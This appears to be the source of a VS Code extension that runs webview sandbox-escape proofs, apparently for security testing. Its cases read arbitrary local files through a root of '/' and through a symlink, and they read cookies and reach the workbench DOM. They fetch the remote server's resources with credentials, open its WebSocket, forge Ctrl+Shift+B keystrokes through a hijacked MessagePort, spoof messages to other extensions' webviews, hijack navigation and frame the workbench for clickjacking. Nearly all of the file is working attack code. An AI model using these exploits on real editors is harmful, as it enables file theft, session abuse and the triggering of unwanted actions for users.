// A webview shows local files below its roots; its scripts have the browser's network, and what else the browser
// lets them reach: the workbench around them, its server.
"use strict";
const { attack } = require("./attack");

const page = (vscode, options, body) =>
  new Promise((resolve) => {
    const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Active, preserveFocus: true }, { enableScripts: true, ...options });
    panel.webview.onDidReceiveMessage((message) => {
      resolve(message);
      panel.dispose();
    });
    // EDITOR and SERVER: where the workbench is, and its server's path.
    panel.webview.html = `<!doctype html><html><body><script>const api = acquireVsCodeApi();const EDITOR = location.ancestorOrigins[location.ancestorOrigins.length - 1];const SERVER = location.pathname.split("/static/")[0];(async () => {${body(panel.webview)}})().then((value) => api.postMessage(String(value)), (error) => api.postMessage("error: " + error));</script></body></html>`;
  });

/** Of another window: every frame but the one in which this runs, and those around and in it. */
const OTHERS = `
  const framesOf = (one) => [...Array(one.length).keys()].map((i) => one[i]);
  const below = (one) => framesOf(one).flatMap((each) => [each, ...below(each)]);
  const isOurs = (one) => one === window || below(one).includes(window);
  const others = () => framesOf(window.top).filter((one) => !isOurs(one)).flatMap((one) => [one, ...below(one)]);`;

/** Beside what else is open. */
const beside = (vscode, script) => {
  const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Beside, preserveFocus: true }, { enableScripts: true });
  setTimeout(() => panel.dispose(), 8000);
  panel.webview.html = `<!doctype html><html><body><script>${OTHERS}${script}</script></body></html>`;
};

exports.activate = (context) =>
  attack(context, "webview", {
    roots: ({ key }, vscode) =>
      page(vscode, { localResourceRoots: [vscode.Uri.file("/")] }, (webview) =>
        `const answer = await fetch(${JSON.stringify(String(webview.asWebviewUri(vscode.Uri.file(key))))}); return answer.status + await answer.text();`),
    // Without localResourceRoots: the workspace and the extension's folder.
    symlink: ({ key, workspace }, vscode) => {
      const link = `${workspace}/.proof/innocent-page.txt`;
      require("node:fs").symlinkSync(key, link);
      return page(vscode, {}, (webview) =>
        `const answer = await fetch(${JSON.stringify(String(webview.asWebviewUri(vscode.Uri.file(link))))}); return answer.status + await answer.text();`);
    },
    token: (_, vscode) => page(vscode, {}, () => "return document.cookie;"),
    top: (_, vscode) => page(vscode, {}, () => "return window.top.document.querySelector('.monaco-workbench').className;"),
    ...Object.fromEntries(["EDITOR", "location.origin"].map((origin) => [origin === "EDITOR" ? "resource" : "ownResource", ({ key }, vscode) =>
      page(vscode, {}, () => `const answer = await fetch(${origin} + SERVER + "/vscode-remote-resource?path=" + encodeURIComponent(${JSON.stringify(key)}), { credentials: "include" }); return answer.status + await answer.text();`)])),
    socket: (_, vscode) => page(vscode, {}, () => `return new Promise((resolve) => {
      const socket = new WebSocket(EDITOR.replace("http", "ws") + SERVER + "?reconnectionToken=1&reconnection=false&skipWebSocketFrames=false");
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("refused");
    });`),
    // Says that keys were pressed: the frame around it speaks with the workbench, and is of the same origin.
    keys: (_, vscode) => {
      const panel = vscode.window.createWebviewPanel("proof", "Proof", vscode.ViewColumn.Active, { enableScripts: true });
      setTimeout(() => panel.dispose(), 8000);
      panel.webview.html = `<!doctype html><html><body><input autofocus><script>
        const framesOf = (one) => [...Array(one.length).keys()].map((i) => one[i]);
        const outer = framesOf(window.top).find((one) => framesOf(one).includes(window));
        const { postMessage } = outer.MessagePort.prototype;
        let port;
        outer.MessagePort.prototype.postMessage = function (...rest) { port = this; return postMessage.apply(this, rest); };
        setInterval(() => {
          document.querySelector("input").focus();
          document.dispatchEvent(new KeyboardEvent("keydown", { key: "Shift", bubbles: true }));
          window.dispatchEvent(new KeyboardEvent("keydown", { key: "Shift", bubbles: true }));
          const key = { key: "B", keyCode: 66, code: "KeyB", shiftKey: true, altKey: false, ctrlKey: true, metaKey: false, repeat: false, isTrusted: true };
          for (const channel of ["did-keydown", "did-keyup"]) if (port) postMessage.call(port, { channel, data: key });
        }, 1000);</script></body></html>`;
    },
    // Speaks to the pages of others, as their extensions do; so does a frame of no origin.
    others: ({ mark }, vscode) => {
      const row = { key: mark, time: "2026-01-01T00:00:00Z", subject: "proof.victim", verdict: "allow", kind: "read", kindName: "read", resource: `heard ${mark}`, count: 1, program: "", rule: "", detail: "" };
      const speak = `setInterval(() => { for (const one of others()) one.postMessage(${JSON.stringify({ type: "rows", rows: [row] })}, "*"); }, 300);`;
      beside(vscode, `${speak}
        const frame = document.createElement("iframe");
        frame.sandbox = "allow-scripts";
        frame.srcdoc = "<script>" + ${JSON.stringify(OTHERS + speak)} + "</" + "script>";
        document.documentElement.append(frame);`);
    },
    // Takes the pages of others, or the window, to another address.
    navigate: ({ mark }, vscode) => beside(vscode, `
      const address = "#" + ${JSON.stringify(mark)};
      const trying = (act) => { try { act(); } catch (error) { console.log(String(error)); } };
      const outer = framesOf(window.top).find((one) => framesOf(one).includes(window));
      setInterval(() => {
        for (const one of [...others(), window.top]) {
          trying(() => one.eval("location.hash = " + JSON.stringify(address)));
          trying(() => { one.location = "about:blank" + address; });
        }
        for (const { document } of [window, outer])
          trying(() => Object.assign(document.body.appendChild(document.createElement("a")), { target: "_top", href: location.ancestorOrigins[location.ancestorOrigins.length - 1] + "/" + address }).click());
      }, 500);`),
    // What lies over it has a person click in it.
    frame: (_, vscode) => {
      const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Active, preserveFocus: true }, { enableScripts: true });
      setTimeout(() => panel.dispose(), 15_000);
      panel.webview.html = `<!doctype html><html><body><iframe name="framed" style="width:100%;height:100%"></iframe><script>
        const EDITOR = location.ancestorOrigins[location.ancestorOrigins.length - 1];
        document.querySelector("iframe").src = EDITOR + location.pathname.split("/").slice(0, location.pathname.split("/")[1].startsWith("code-") ? 2 : 1).join("/") + "/";</script></body></html>`;
    },
  });
